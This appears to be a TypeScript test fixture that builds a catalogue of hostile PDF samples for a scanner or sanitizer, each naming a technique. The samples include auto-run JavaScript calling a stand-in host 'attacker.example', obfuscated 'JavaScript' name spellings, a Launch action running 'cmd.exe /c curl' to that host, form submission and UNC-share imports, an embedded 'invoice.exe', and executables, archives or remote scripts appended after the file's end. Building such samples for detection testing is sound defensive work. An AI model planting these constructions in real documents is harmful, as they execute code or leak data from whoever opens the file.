import { joined } from "./bytes.ts"
import { compressedPdfOf, pdfOf, pdfStream, statement } from "./pdfFile.ts"

/** PDFs that act, or carry something, if a program follows them. Each shows `pdfOf()`. */

/** Stands for content that must not reach a reviewer. */
export const payload = "attacker.example"

const script = `<< /S /JavaScript /JS (app.launchURL\\("https://${payload}"\\)) >>`

/** What happens when the document is opened. */
const opening = (action: string) => pdfOf({ catalog: `/OpenAction ${action}` })

/** What happens when somebody clicks into the page. */
const linked = (action: string) =>
  pdfOf({
    pages: [
      { more: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A ${action} >>]` }
    ]
  })

const attached = pdfStream("/Type /EmbeddedFile", `MZ this program runs ${payload}`)
const fileOf =
  "<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 4 0 R >> /AFRelationship /Source >>"

export const hostilePdfs: { readonly [what: string]: Uint8Array } = {
  "a script in an object behind two filters": compressedPdfOf(
    { catalog: `/OpenAction ${script}` },
    "deflated, in hexadecimal",
    "/Title (1 0 obj)"
  ),
  "a script in an object behind a dictionary of more than 2 KiB": compressedPdfOf(
    { catalog: `/OpenAction ${script}` },
    "deflated",
    `/Filler (${"x".repeat(3000)})`
  ),
  "a script in an object behind the word obj in a string": compressedPdfOf(
    { catalog: `/OpenAction ${script}` },
    "deflated",
    "/Title (1 0 obj)"
  ),
  "a script": opening(script),
  "a script in another spelling": opening(`<< /S /J#61va#53cript /J#53 (app.alert\\("${payload}"\\)) >>`),
  "a program to launch": opening(`<< /S /Launch /Win << /F (cmd.exe) /P (/c curl ${payload}) >> >>`),
  "a form that is sent": opening(`<< /S /SubmitForm /F (https://${payload}/form) /Flags 4 >>`),
  "data to be imported": opening(`<< /S /ImportData /F (\\\\\\\\${payload}\\\\share\\\\data.fdf) >>`),
  "an address to open": linked(`<< /S /URI /URI (https://${payload}/login) >>`),
  "another document on somebody's share": opening(
    `<< /S /GoToR /F (\\\\\\\\${payload}\\\\share\\\\next.pdf) /D [0 /Fit] >>`
  ),
  "another document within": linked(`<< /S /GoToE /T << /R /C /N (${payload}) >> >>`),
  "an action when a page is seen": pdfOf({ pages: [{ more: `/AA << /O ${script} /C ${script} >>` }] }),
  "an action when the document is closed": pdfOf({ catalog: `/AA << /WC ${script} /WP ${script} >>` }),
  "an associated file": pdfOf({ catalog: `/AF [${fileOf}]`, objects: [attached] }),
  "an attached file": pdfOf({
    catalog: `/Names << /EmbeddedFiles << /Names [(invoice.exe) ${fileOf}] >> >>`,
    objects: [attached]
  }),
  "a command to a rich medium": linked(
    `<< /S /RichMediaExecute /CMD << /C (play) /A [(${payload})] >> /TI 4 0 R >>`
  ),
  "a medium that is played": linked(
    `<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (https://${payload}/a.mp4) >> >> >> >>`
  ),
  "a form of its own kind": pdfOf({
    catalog: "/AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true",
    objects: [
      pdfStream("", `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${payload}</script></xdp:xdp>`)
    ]
  }),
  "a program behind its end": joined(pdfOf(), `MZ\x90\0 this program runs ${payload}`),
  "an archive behind its end": joined(pdfOf(), `PK\x03\x04 ${payload} PK\x05\x06${"\0".repeat(18)}`),
  "a web page behind its end": joined(
    pdfOf(),
    `<html><script src="https://${payload}/a.js"></script></html>`
  ),
  "an image from elsewhere": pdfOf({
    pages: [
      {
        draws: `${statement("the statement")}q 1 0 0 1 0 0 cm /X Do Q\n`,
        resources: "/XObject << /X 4 0 R >>"
      }
    ],
    objects: [
      pdfStream(
        `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (https://${payload}/a.png) >>`,
        "\x80"
      )
    ]
  })
}
